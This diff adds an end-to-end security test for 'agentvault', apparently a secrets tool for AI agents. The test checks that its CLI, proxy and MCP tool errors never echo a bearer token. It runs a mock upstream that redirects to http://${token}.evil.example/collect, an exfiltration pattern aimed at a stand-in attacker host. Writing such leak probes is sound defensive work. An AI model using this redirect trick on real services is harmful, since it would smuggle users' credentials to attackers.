@@ -1,0 +1,158 @@
+/**
+ * An attacker's probe: an upstream the secret is allowed to reach tries to move the value it was
+ * sent into something agentvault itself writes — an error message, `--json` error details, the
+ * proxy's error body, an MCP tool error — rather than into the response, which redaction covers.
+ * Each route below echoes the bearer token where agentvault quotes the server.
+ */
+import type {CallToolResult} from '@modelcontextprotocol/sdk/types.js'
+
+import assert from 'node:assert/strict'
+import {createServer, type Server} from 'node:http'
+
+import {startMcp} from '../helpers/mcp.js'
+import {proxyCall, startProxy} from '../helpers/proxy.js'
+import {createUseWorld, MASK, type UseWorld} from '../servers/http-upstream/fixture.js'
+
+/** Lower case already, as a host name or a URL scheme shows it: a hex token, an `sk-…` key. */
+const LOWER = 'hostcanary-leak9-5d1e0b7a'
+/** Mixed case: URL parsing lower-cases a host or scheme, and must not thereby uncover it. */
+const MIXED = 'HostCanary-Leak9-C0FFEE42'
+const PROXY_MARKER = '[REDACTED_BY_AGENTSECRETS]'
+
+/** Redirects that quote the token where agentvault's errors name what the server sent. */
+function hostileUpstream(): Promise<{port: number; server: Server}> {
+  const server = createServer((request, response) => {
+    request.resume()
+    const token = String(request.headers.authorization ?? '').replace(/^Bearer /, '')
+    const path = (request.url ?? '').split('?')[0]
+    const location =
+      path === '/to-host'
+        ? `http://${token}.evil.example/collect`
+        : path === '/to-scheme'
+          ? `${token}:collect`
+          : `http://127.0.0.1:1/${path}`
+    response.writeHead(302, {location})
+    response.end()
+  })
+  return new Promise((resolve) => {
+    server.listen(0, '127.0.0.1', () => {
+      const address = server.address()
+      resolve({port: typeof address === 'object' && address ? address.port : 0, server})
+    })
+  })
+}
+
+/** Whether `text` holds `value` in any case (as a host name shows it) or URL-encoded. */
+function leaks(text: string, value: string): boolean {
+  const lower = text.toLowerCase()
+  return lower.includes(value.toLowerCase()) || lower.includes(encodeURIComponent(value).toLowerCase())
+}
+
+describe('e2e: leak probe — values an upstream moves into agentvault’s own messages', function () {
+  this.timeout(120_000)
+  let world: UseWorld
+  let upstream: {port: number; server: Server}
+  const url = (path: string): string => `http://127.0.0.1:${upstream.port}${path}`
+  const env = (): NodeJS.ProcessEnv => ({
+    AGENTVAULT_HOME: world.home,
+    AGENTVAULT_NO_KEYCHAIN: '1',
+    NO_COLOR: '1',
+  })
+
+  before(async () => {
+    world = await createUseWorld()
+    upstream = await hostileUpstream()
+    for (const [name, value] of [
+      ['LOWER', LOWER],
+      ['MIXED', MIXED],
+    ]) {
+      const stored = await world.cli(['secrets', 'set', name!], {input: value})
+      assert.equal(stored.code, 0, stored.stderr)
+    }
+  })
+
+  after(async () => {
+    await new Promise((resolve) => {
+      upstream.server.close(resolve)
+    })
+    await world.dispose()
+  })
+
+  describe('a redirect whose Location carries the value as a host or a scheme', () => {
+    for (const route of ['/to-host', '/to-scheme'])
+      for (const [name, value] of [
+        ['LOWER', LOWER],
+        ['MIXED', MIXED],
+      ] as const)
+        it(`call and use: ${route} with ${name} — the refusal (Error, Try this, --json) conceals it`, async () => {
+          const runs = [
+            await world.cli(['call', url(route), '--bearer', name]),
+            await world.cli(['call', url(route), '--bearer', name, '--json']),
+            await world.cli(['use', name, 'http_request', '--param', `url=${url(route)}`]),
+            await world.cli(['use', name, 'http_request', '--param', `url=${url(route)}`, '--json']),
+          ]
+          for (const result of runs) {
+            assert.equal(result.code, 7, result.stderr + result.stdout)
+            const output = result.stdout + result.stderr
+            assert.ok(output.includes(MASK), output)
+            assert.ok(!leaks(output, value), `the value in: ${output}`)
+          }
+
+          const json = JSON.parse(runs[1]!.stdout) as {error: {details?: {host?: string}; message: string}}
+          if (route === '/to-host') assert.equal(json.error.details?.host, `${MASK}.evil.example`)
+        })
+  })
+
+  it('proxy: the 403 body, its domain and the log line conceal a value the redirect carried', async () => {
+    const proxy = await startProxy(env())
+    try {
+      for (const [route, name, value] of [
+        ['/to-host', 'LOWER', LOWER],
+        ['/to-host', 'MIXED', MIXED],
+        ['/to-scheme', 'MIXED', MIXED],
+      ] as const) {
+        const reply = await proxyCall(proxy.port, {
+          headers: {
+            'X-AS-Inject-Bearer': name,
+            'X-AS-Session-Token': proxy.token ?? '',
+            'X-AS-Target-URL': url(route),
+          },
+        })
+        assert.equal(reply.status, 403, reply.text)
+        assert.ok(reply.text.includes(PROXY_MARKER), reply.text)
+        assert.ok(!leaks(reply.text, value), reply.text)
+        if (route === '/to-host')
+          assert.equal((JSON.parse(reply.text) as {domain: string}).domain, `${PROXY_MARKER}.evil.example`)
+      }
+
+      await proxy.untilRequestLines(3)
+    } finally {
+      const stopped = await proxy.stop()
+      assert.ok(!leaks(stopped.stderr + stopped.stdout, LOWER), stopped.stderr)
+      assert.ok(!leaks(stopped.stderr + stopped.stdout, MIXED), stopped.stderr)
+    }
+  })
+
+  it('mcp: the http_request tool error conceals it (content and structuredContent)', async () => {
+    const session = await startMcp(['--allow', 'local://*', '--allow-host', '127.0.0.1'], env())
+    let received = ''
+    try {
+      for (const [route, name] of [
+        ['/to-host', 'MIXED'],
+        ['/to-scheme', 'LOWER'],
+      ] as const) {
+        const result = (await session.client.callTool({
+          arguments: {bearer: name, url: url(route)},
+          name: 'http_request',
+        })) as CallToolResult
+        assert.equal(result.isError, true, JSON.stringify(result))
+        assert.ok(JSON.stringify(result).includes(MASK), JSON.stringify(result))
+      }
+    } finally {
+      const transcript = await session.close()
+      received = transcript.received + transcript.stderr
+    }
+
+    for (const value of [LOWER, MIXED]) assert.ok(!leaks(received, value), received)
+  })
+})
